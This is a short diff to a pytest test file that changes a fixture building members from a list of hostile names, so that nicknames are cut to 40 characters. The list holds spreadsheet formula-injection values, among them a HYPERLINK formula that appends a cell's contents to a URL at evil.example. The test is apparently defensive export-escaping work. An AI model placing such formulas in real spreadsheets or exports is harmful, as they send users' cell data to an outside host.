@@ -42,7 +42,7 @@ HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "=1+1", "+
 
 @pytest.fixture
 def hostile_members(group_a):
-    return [MemberFactory(group=group_a, full_name=name, nickname=name, code=f"X-{i}")
+    return [MemberFactory(group=group_a, full_name=name, nickname=name[:40], code=f"X-{i}")
             for i, name in enumerate(HOSTILE_NAMES)]
 
 
